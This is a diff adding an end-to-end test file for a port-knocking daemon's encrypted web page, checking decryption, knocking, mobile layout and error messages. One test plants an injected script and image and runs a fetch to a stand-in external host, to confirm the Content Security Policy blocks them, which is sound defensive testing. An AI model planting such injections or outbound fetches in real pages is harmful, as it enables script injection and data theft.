@@ -1,0 +1,185 @@
+// Goal: whoever has a browser and their identity gets in by the published page alone: a real Chromium fetches page and list from a
+// real nginx, decrypts in the browser, and knocks; the real daemon opens the door. Nothing is asked of anybody else.
+import { execFileSync } from 'node:child_process'
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, expect, test } from 'vitest'
+import { Chromium, DESKTOP } from './chromium.ts'
+import type { Tab } from './chromium.ts'
+import { startKnockd } from './knockd.ts'
+import { CLIENT_4, Host, SERVER_4, lab, pair } from './net.ts'
+import { startNginx } from './nginx.ts'
+import { until } from './process.ts'
+import type { Process } from './process.ts'
+import { scratch } from './scratch.ts'
+import { watchWire } from './service.ts'
+
+/** Where pictures of the page are left, if wanted: they are for people to look at. */
+const { PICTURES } = process.env
+const LIMIT_MS = 180_000
+
+const running: Process[] = []
+let chromium: Chromium | undefined
+afterEach(async () => {
+  await chromium?.close()
+  chromium = undefined
+  for (const process of running.splice(0)) await process.stop()
+})
+
+interface Set {
+  readonly client: Host
+  readonly server: Host
+  readonly daemon: Process
+  readonly identity: string
+  readonly notes: string
+  readonly folder: string
+  readonly ports: () => readonly number[]
+}
+
+/** A server that publishes its list by nginx, and a client with a browser. */
+const setUp = async (lines: readonly string[], passphrase?: string): Promise<Set> => {
+  const { server, client } = await pair()
+  const { folder, process: web } = await startNginx(server)
+  running.push(web)
+  const file = scratch('identity')
+  execFileSync('age-keygen', ['-o', file], { stdio: 'ignore' })
+  const recipient = execFileSync('age-keygen', ['-y', file], { encoding: 'utf8' }).trim()
+  const identity = /AGE-SECRET-KEY-\S+/.exec(readFileSync(file, 'utf8'))![0]
+  const secret = scratch('passphrase')
+  writeFileSync(secret, `${passphrase ?? ''}\n`, { mode: 0o600 })
+  const notes = scratch('notes')
+  const config = [
+    '[ssh]',
+    'One_Time_Sequences = generate',
+    `Publish_To = ${folder}`,
+    passphrase === undefined ? `Publish_For = ${recipient}` : `Publish_Passphrase_File = ${secret}`,
+    ...lines,
+    `Start_Command = echo %IP% >> ${notes}`,
+    '',
+  ].join('\n')
+  const { process: daemon } = await startKnockd({ host: server, config })
+  running.push(daemon)
+  await until('the page', () => existsSync(join(folder, 'ssh.html')))
+  const ports = (): readonly number[] => {
+    const text = execFileSync('age', ['-d', '-i', file, join(folder, 'ssh.age')], { encoding: 'utf8' })
+    return text
+      .split('\n')
+      .find((line) => line !== '' && !line.startsWith('#'))!
+      .split(',')
+      .map(Number)
+  }
+  return { client, server, daemon, identity, notes, folder, ports }
+}
+
+const openings = (notes: string): readonly string[] =>
+  readFileSync(notes, { encoding: 'utf8', flag: 'a+' }).split('\n').filter(Boolean)
+
+const unlock = async (tab: Tab, key: string): Promise<void> => {
+  await tab.click('#key')
+  await tab.type(key)
+  await tab.press('Enter')
+}
+
+const shown = async (tab: Tab): Promise<readonly number[]> =>
+  await tab.evaluate<number[]>(
+    `[...document.querySelectorAll('#ports li')].map((each) => Number(/[0-9]{4,5}/.exec(each.textContent.replace(/^\\s*[0-9]\\s+/, ''))[0]))`,
+  )
+
+const picture = async (tab: Tab, name: string): Promise<void> => {
+  if (PICTURES === undefined) return
+  mkdirSync(PICTURES, { recursive: true })
+  await tab.picture(join(PICTURES, `${name}.png`), true)
+}
+
+lab('the published page', () => {
+  test(
+    'decrypts with a pasted identity, shows what the list has, and opens the door from the browser',
+    async () => {
+      const { server, client, daemon, identity, notes, ports } = await setUp([`Publish_Host = ${SERVER_4}`])
+      chromium = await Chromium.start(client)
+      const tab = await chromium.tab(DESKTOP)
+      const wire = await watchWire(client, `src host ${CLIENT_4} and not dst host ${SERVER_4}`)
+      running.push(wire)
+      await tab.open(`http://${SERVER_4}/ssh.html`)
+      await tab.see('#lock', /Identity or passphrase/)
+      await picture(tab, 'locked-desktop-light')
+      const first = ports()
+      await unlock(tab, identity)
+      await tab.see('#sequence', /Next sequence/)
+      expect(await shown(tab)).toEqual(first)
+      await tab.see('#left', /^20$/)
+      await picture(tab, 'open-desktop-light')
+      await tab.click('#knock')
+      expect(await daemon.line(/OPEN/)).toBe(`${CLIENT_4}: ssh: OPEN SESAME`)
+      await tab.see('#status', /Knocked/)
+      await until('the opening', () => openings(notes).length === 1)
+      await until('the next list', () => ports().join() !== first.join())
+      // The next one, fetched anew: the sequence that was used is not shown again.
+      await tab.click('#next')
+      await until('the next sequence', async () => (await shown(tab)).join() === ports().join())
+      await tab.see('#left', /^19$/)
+      await picture(tab, 'knocked-desktop-light')
+      const own = new RegExp(`^http://${SERVER_4.replaceAll('.', '\\.')}(:[0-9]+)?/`)
+      expect(tab.requests.filter((url) => !own.test(url) && !url.startsWith('data:'))).toEqual([])
+      // That a knocked port refuses is no fault of the page.
+      expect(tab.complaints.filter((text) => !/ERR_CONNECTION_REFUSED|ERR_ABORTED/.test(text))).toEqual([])
+      expect(wire.lines.filter((line) => /^IP6? /.test(line) && !/(ARP|ICMP6|ff02::)/.test(line))).toEqual([])
+      await server.run(['true'])
+    },
+    LIMIT_MS,
+  )
+
+  test(
+    'lets nothing out: what somebody wrote into it would not run, nor reach anybody else',
+    async () => {
+      const { client, identity, folder } = await setUp([])
+      chromium = await Chromium.start(client)
+      const tab = await chromium.tab(DESKTOP)
+      const page = readFileSync(join(folder, 'ssh.html'), 'utf8')
+      const injected = '<script>window.stolen = 1</script><img src="http://192.0.2.66/x.png">'
+      writeFileSync(join(folder, 'ssh.html'), page.replace('<main', `${injected}<main`))
+      await tab.open(`http://${SERVER_4}/ssh.html`)
+      await unlock(tab, identity)
+      await tab.see('#sequence', /Next sequence/)
+      expect(await tab.evaluate('window.stolen ?? null')).toBeNull()
+      const answer = `fetch('http://192.0.2.66/?' + 'x').then(() => 'sent', (error) => String(error))`
+      expect(await tab.evaluate(answer)).toMatch(/TypeError/)
+      expect(tab.complaints.join('\n')).toMatch(/Content Security Policy/)
+      // Without Publish_Host it knocks nowhere, and says what to do.
+      expect(await tab.evaluate(`document.querySelector('#knock').checkVisibility()`)).toBe(false)
+      await tab.click('#by-hand summary')
+      await tab.see('#commands', /telnet/)
+    },
+    LIMIT_MS,
+  )
+
+  test(
+    'on a phone, in the dark, with a passphrase; a wrong one and a list that is gone are told',
+    async () => {
+      const passphrase = 'correct horse battery staple'
+      const { client, folder } = await setUp([`Publish_Host = ${SERVER_4}`], passphrase)
+      chromium = await Chromium.start(client)
+      const tab = await chromium.tab({ width: 390, height: 844, scheme: 'dark' })
+      await tab.open(`http://${SERVER_4}/ssh.html`)
+      await picture(tab, 'locked-phone-dark')
+      await unlock(tab, 'wrong horse')
+      await tab.see('#trouble', /passphrase|identity/i, LIMIT_MS)
+      await picture(tab, 'trouble-phone-dark')
+      await tab.evaluate(`document.querySelector('#key').value = ''`)
+      await unlock(tab, passphrase)
+      await tab.see('#sequence', /Next sequence/, LIMIT_MS)
+      await picture(tab, 'open-phone-dark')
+      // Nothing has to be scrolled sideways, down to the narrowest phone there is.
+      await tab.look({ width: 320, height: 640, scheme: 'dark' })
+      expect(await tab.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(320)
+      await picture(tab, 'open-narrow-dark')
+      execFileSync('rm', [join(folder, 'ssh.age')])
+      const other = await chromium.tab({ width: 390, height: 844, scheme: 'light' })
+      await other.open(`http://${SERVER_4}/ssh.html`)
+      await unlock(other, passphrase)
+      await other.see('#trouble', /list/)
+      await picture(other, 'gone-phone-light')
+    },
+    LIMIT_MS,
+  )
+})
